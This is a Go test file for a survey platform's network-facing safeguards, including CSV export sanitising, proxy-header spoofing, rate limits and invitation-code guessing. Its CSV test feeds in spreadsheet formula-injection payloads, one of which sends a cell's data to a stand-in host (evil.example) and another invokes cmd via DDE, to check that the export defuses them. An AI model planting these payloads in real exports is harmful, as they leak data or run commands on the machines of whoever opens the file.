package handlers_test

// Tests of the network-facing guarantees: client addresses and proxies,
// CSV formulas, per-survey address hashes, invitation code guessing,
// quality flags for untimed and phone-stuffed responses, and carrier-grade
// NAT pushes.

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	mrand "math/rand/v2"
	"net"
	"net/http"
	"net/http/cookiejar"
	"strings"
	"testing"
	"time"

	"github.com/minyi-survey/minyi/handlers"
	"github.com/minyi-survey/minyi/models"
	"github.com/minyi-survey/minyi/surveys/dedup"
	"github.com/minyi-survey/minyi/surveys/limit"
	"github.com/minyi-survey/minyi/surveys/live"
	"github.com/minyi-survey/minyi/surveys/questionnaire"
	"github.com/minyi-survey/minyi/surveys/surveystest"
)

// commentBody is a random answer to the demo survey with comment as its
// open comment.
func commentBody(t *testing.T, in *instance, seed uint64, comment string) []byte {
	t.Helper()
	p, err := in.Svc.Published(slug)
	if err != nil {
		t.Fatal(err)
	}
	sub := surveystest.RandomSubmission(mrand.New(mrand.NewPCG(seed, 7)), p.Compiled)
	c, _ := json.Marshal(comment)
	sub.Answers["comment"] = c
	b, err := json.Marshal(sub)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// TestCSVExportDefusesFormulas: a resident's comment that a spreadsheet
// would run as a formula is exported with a leading apostrophe.
func TestCSVExportDefusesFormulas(t *testing.T) {
	comments := []string{`=HYPERLINK("http://evil.example/?d="&A1,"点击领奖")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
		"\t=1", "\r=1", "路灯坏了"}
	for name, in := range instances(t, handlers.Config{}) {
		t.Run(name, func(t *testing.T) {
			for i, c := range comments {
				if r := post(t, resident(t, in), in.URL+"/api/v1/surveys/"+slug+"/responses", "application/json", commentBody(t, in, uint64(i), c)); r.Status != 201 {
					t.Fatalf("submit: %d %s", r.Status, r.Raw)
				}
			}
			p, _ := in.Svc.Published(slug)
			d := signIn(t, in, models.RoleDesigner)
			r := d.do(http.MethodGet, fmt.Sprintf("/api/v1/admin/surveys/%d/responses.csv", p.Survey.ID), nil)
			if r.Status != 200 {
				t.Fatalf("export: %d", r.Status)
			}
			rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(r.Raw, []byte("\ufeff")))).ReadAll()
			if err != nil {
				t.Fatal(err)
			}
			col := -1
			for i, h := range rows[0] {
				if h == "comment" {
					col = i
				}
			}
			got := map[string]bool{}
			for _, row := range rows[1:] {
				got[row[col]] = true
				for i, cell := range row {
					if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
						t.Errorf("column %s starts with a formula character: %q", rows[0][i], cell)
					}
				}
			}
			for _, c := range comments {
				want := strings.TrimSpace(c) // the page's texts are trimmed on submission
				if c != "路灯坏了" {
					want = "'" + want
				}
				if !got[want] {
					t.Errorf("comment %q exported as something else than %q: %v", c, want, got)
				}
			}
		})
	}
}

// loopbackProxy trusts the test's own client as a reverse proxy.
func loopbackProxy(t *testing.T) []*net.IPNet {
	t.Helper()
	n, err := handlers.ParseTrustedProxies("127.0.0.1/32, ::1")
	if err != nil || len(n) != 2 {
		t.Fatalf("parse: %v %v", n, err)
	}
	return n
}

// submitFrom sends one new resident's answer with the given
// X-Forwarded-For ("" = none).
func submitFrom(t *testing.T, in *instance, xff string, seed uint64) reply {
	t.Helper()
	c := resident(t, in)
	req, _ := http.NewRequest(http.MethodPost, in.URL+"/api/v1/surveys/"+slug+"/responses", bytes.NewReader(randomBody(t, in, seed)))
	req.Header.Set("Content-Type", "application/json")
	if xff != "" {
		req.Header.Set("X-Forwarded-For", xff)
	}
	return do(t, c, req)
}

// TestSpoofedForwardedForIsIgnored: a client on loopback (or any private
// network) naming a new address in X-Forwarded-For for each submission
// stays one address for the per-address limit; only configured proxies are
// believed, and an IPv6 client is one /64.
func TestSpoofedForwardedForIsIgnored(t *testing.T) {
	// until429 sends n answers naming xff(i) and returns how many were 201.
	until429 := func(t *testing.T, in *instance, n int, xff func(i int) string) int {
		t.Helper()
		for i := range n {
			r := submitFrom(t, in, xff(i), uint64(i))
			if r.Status == http.StatusTooManyRequests {
				return i
			}
			if r.Status != http.StatusCreated {
				t.Fatalf("submission %d: %d %s", i, r.Status, r.Raw)
			}
		}
		return n
	}
	spoofed := func(i int) string { return fmt.Sprintf("198.51.100.%d", i+1) }
	t.Run("default: the direct peer only", func(t *testing.T) {
		in := start(t, surveystest.SQLite(t), dedup.NewMemory(), live.NewMemory(), handlers.Config{SubmitRate: 3})
		if ok := until429(t, in, 20, spoofed); ok == 20 {
			t.Fatal("20 submissions from loopback at 3/s, each naming another X-Forwarded-For: none refused")
		}
	})
	t.Run("a trusted proxy's clients are told apart", func(t *testing.T) {
		in := start(t, surveystest.SQLite(t), dedup.NewMemory(), live.NewMemory(), handlers.Config{SubmitRate: 3, TrustedProxies: loopbackProxy(t)})
		if ok := until429(t, in, 12, spoofed); ok != 12 {
			t.Fatalf("12 clients of a trusted proxy at 3/s each: refused after %d", ok)
		}
		// The nearest untrusted address counts, not what the client
		// itself wrote in front of it.
		if ok := until429(t, in, 12, func(i int) string { return spoofed(i) + ", 203.0.113.9" }); ok == 12 {
			t.Fatal("a client that prepends addresses to a trusted proxy's X-Forwarded-For escaped the limit")
		}
	})
	t.Run("IPv6: one /64 is one client", func(t *testing.T) {
		in := start(t, surveystest.SQLite(t), dedup.NewMemory(), live.NewMemory(), handlers.Config{SubmitRate: 3, TrustedProxies: loopbackProxy(t)})
		if ok := until429(t, in, 12, func(i int) string { return fmt.Sprintf("2001:db8:1:2::%x", i+1) }); ok == 12 {
			t.Fatal("12 addresses of one /64 at 3/s: none refused")
		}
		if ok := until429(t, in, 12, func(i int) string { return fmt.Sprintf("2001:db8:1:%x::1", i+10) }); ok != 12 {
			t.Fatalf("12 different /64s at 3/s each: refused after %d", ok)
		}
	})
}

// TestSecureCookieFromTrustedProxyOnly: X-Forwarded-Proto: https makes the
// cookies Secure only when a trusted proxy sent it.
func TestSecureCookieFromTrustedProxyOnly(t *testing.T) {
	for _, tc := range []struct {
		name    string
		proxies []*net.IPNet
		want    bool
	}{{"untrusted peer", nil, false}, {"trusted proxy", loopbackProxy(t), true}} {
		t.Run(tc.name, func(t *testing.T) {
			in := start(t, surveystest.SQLite(t), dedup.NewMemory(), live.NewMemory(), handlers.Config{TrustedProxies: tc.proxies})
			jar, _ := cookiejar.New(nil)
			req, _ := http.NewRequest(http.MethodGet, in.URL+"/s/"+slug, nil)
			req.Header.Set("X-Forwarded-Proto", "https")
			r := do(t, &http.Client{Jar: jar}, req)
			cookies := (&http.Response{Header: r.Header}).Cookies()
			if r.Status != 200 || len(cookies) == 0 {
				t.Fatalf("page: %d, %d cookies", r.Status, len(cookies))
			}
			if cookies[0].Secure != tc.want {
				t.Fatalf("respondent cookie Secure = %v with X-Forwarded-Proto: https from %s, want %v", cookies[0].Secure, tc.name, tc.want)
			}
		})
	}
}

// answer sends one new resident's answer to the survey slug as a client of
// the proxy at loopback naming xff ("" = none); edit may change the random
// submission first.
func answer(t *testing.T, in *instance, slug, xff string, seed uint64, edit func(*questionnaire.Submission)) reply {
	t.Helper()
	p, err := in.Svc.Published(slug)
	if err != nil {
		t.Fatal(err)
	}
	jar, _ := cookiejar.New(nil)
	c := &http.Client{Jar: jar}
	page, _ := http.NewRequest(http.MethodGet, in.URL+"/s/"+slug, nil)
	if r := do(t, c, page); r.Status != 200 {
		t.Fatalf("page %s: %d", slug, r.Status)
	}
	sub := surveystest.RandomSubmission(mrand.New(mrand.NewPCG(seed, 11)), p.Compiled)
	if edit != nil {
		edit(sub)
	}
	body, _ := json.Marshal(sub)
	req, _ := http.NewRequest(http.MethodPost, in.URL+"/api/v1/surveys/"+slug+"/responses", bytes.NewReader(body))
	req.Header.Set("Content-Type", "application/json")
	if xff != "" {
		req.Header.Set("X-Forwarded-For", xff)
	}
	return do(t, c, req)
}

// storedResponses reads a survey's responses in the order they came.
func storedResponses(t *testing.T, in *instance, slug string) []models.Response {
	t.Helper()
	p, err := in.Svc.Published(slug)
	if err != nil {
		t.Fatal(err)
	}
	var rows []models.Response
	if err := in.Store.R.Where("survey_id = ?", p.Survey.ID).Order("id").Find(&rows).Error; err != nil {
		t.Fatal(err)
	}
	return rows
}

// TestAddressHashIsPerSurvey: one client answering two surveys leaves two
// different address hashes, so their exports or tables cannot be joined
// on the address; within one survey the hash is stable.
func TestAddressHashIsPerSurvey(t *testing.T) {
	for name, in := range instances(t, handlers.Config{TrustedProxies: loopbackProxy(t)}) {
		t.Run(name, func(t *testing.T) {
			d := builtinDefinition(t)
			d.Slug = "second-2022"
			publish(t, in, d)
			for i, s := range []string{slug, slug, "second-2022"} {
				if r := answer(t, in, s, "203.0.113.5", uint64(i), nil); r.Status != 201 {
					t.Fatalf("answer %s: %d %s", s, r.Status, r.Raw)
				}
			}
			first, second := storedResponses(t, in, slug), storedResponses(t, in, "second-2022")
			if len(first) != 2 || len(second) != 1 || first[0].IPHash == "" {
				t.Fatalf("stored %d and %d responses, hash %q", len(first), len(second), first[0].IPHash)
			}
			if first[0].IPHash != first[1].IPHash {
				t.Error("one address hashed two ways within one survey: the quality flags could not compare")
			}
			if first[0].IPHash == second[0].IPHash {
				t.Error("one address has the same hash in two surveys: their rows can be joined on it")
			}
		})
	}
}

// TestUntimedSubmissionIsFlagged: a submission without started_at (or
// with one that cannot be true) cannot be checked for speed, so it is
// flagged "no timing" instead of passing the speeder check, and results
// count the reason.
func TestUntimedSubmissionIsFlagged(t *testing.T) {
	for name, in := range instances(t, handlers.Config{}) {
		t.Run(name, func(t *testing.T) {
			future := time.Now().Add(time.Hour)
			for i, edit := range []func(*questionnaire.Submission){
				nil, // started five minutes ago
				func(s *questionnaire.Submission) { s.StartedAt = nil },
				func(s *questionnaire.Submission) { s.StartedAt = &future },
			} {
				if r := answer(t, in, slug, "", uint64(i), edit); r.Status != 201 {
					t.Fatalf("answer %d: %d %s", i, r.Status, r.Raw)
				}
			}
			rows := storedResponses(t, in, slug)
			if len(rows) != 3 {
				t.Fatalf("%d rows", len(rows))
			}
			for i, r := range rows {
				untimed := strings.Contains(r.Flags, questionnaire.FlagNoTiming)
				if untimed != (i > 0) {
					t.Errorf("response %d: flags %q, want no_timing %v", i, r.Flags, i > 0)
				}
			}
			waitTallied(t, in, slug, 3)
			res := get(t, http.DefaultClient, in.URL+"/api/v1/surveys/"+slug+"/results")
			q, _ := res.Body["quality"].(map[string]any)
			reasons, _ := q["reasons"].(map[string]any)
			if reasons[questionnaire.FlagNoTiming] != float64(2) {
				t.Errorf("results quality reasons %v, want no_timing 2", reasons)
			}
		})
	}
}

// TestInvitationCodeGuessingIsSlowed: wrong invitation codes are counted
// per address and per survey; past the budget every code attempt, even a
// right one, gets 429 with Retry-After, while other addresses go on until
// the survey's own budget is spent.
func TestInvitationCodeGuessingIsSlowed(t *testing.T) {
	backends := map[string]func(t *testing.T) *instance{
		"sqlite+memory": func(t *testing.T) *instance {
			return start(t, surveystest.SQLite(t), dedup.NewMemory(), live.NewMemory(), handlers.Config{
				TrustedProxies: loopbackProxy(t), CodeFailsPerAddress: 5, CodeFailsPerSurvey: 8})
		},
	}
	if surveystest.Required() || surveystest.RedisConfigured() {
		backends["mysql+redis"] = func(t *testing.T) *instance {
			rdb := surveystest.Redis(t)
			p := surveystest.Prefix()
			return start(t, surveystest.MySQL(t), dedup.NewRedis(rdb, p+"dedup:"), live.NewRedis(rdb, p+"tally"), handlers.Config{
				TrustedProxies: loopbackProxy(t), CodeFailsPerAddress: 5, CodeFailsPerSurvey: 8,
				CodeFailures: limit.NewRedisFailures(rdb, p+"codefail:")})
		}
	}
	for name, mk := range backends {
		t.Run(name, func(t *testing.T) {
			in := mk(t)
			d := builtinDefinition(t)
			d.Slug, d.Dedup = "code-test", questionnaire.DedupToken
			sv := publish(t, in, d)
			issued, err := in.Svc.CreateTokens(sv.ID, 3, "")
			if err != nil {
				t.Fatal(err)
			}
			try := func(addr, code string, seed uint64) reply {
				t.Helper()
				return answer(t, in, "code-test", addr, seed, func(s *questionnaire.Submission) { s.Token = code })
			}
			wrong := func(i int) string { return fmt.Sprintf("ZZZZ%04d", i) }
			for i := range 5 {
				if r := try("203.0.113.20", wrong(i), uint64(i)); r.Status != http.StatusForbidden {
					t.Fatalf("wrong code %d: %d %s", i, r.Status, r.Raw)
				}
			}
			r := try("203.0.113.20", issued[0].Short, 10)
			if r.Status != http.StatusTooManyRequests || errorCode(t, r) != "rate_limited" || r.Header.Get("Retry-After") == "" || r.Header.Get("Retry-After") == "0" {
				t.Fatalf("a right code after 5 wrong ones from one address: %d %q %s, want 429 with Retry-After", r.Status, r.Header.Get("Retry-After"), r.Raw)
			}
			if r := try("198.51.100.30", issued[0].Short, 11); r.Status != http.StatusCreated {
				t.Fatalf("a right code from another address: %d %s", r.Status, r.Raw)
			}
			// Guessing from many addresses spends the survey's budget (8).
			for i := range 3 {
				if r := try(fmt.Sprintf("192.0.2.%d", i+1), wrong(100+i), uint64(20+i)); r.Status != http.StatusForbidden {
					t.Fatalf("wrong code from address %d: %d %s", i, r.Status, r.Raw)
				}
			}
			if r := try("198.51.100.31", issued[1].Short, 30); r.Status != http.StatusTooManyRequests {
				t.Fatalf("a right code once the survey's budget is spent: %d %s, want 429", r.Status, r.Raw)
			}
			// Other surveys are untouched.
			if r := answer(t, in, slug, "203.0.113.20", 31, nil); r.Status != http.StatusCreated {
				t.Fatalf("a device-mode survey from the same address: %d %s", r.Status, r.Raw)
			}
		})
	}
}
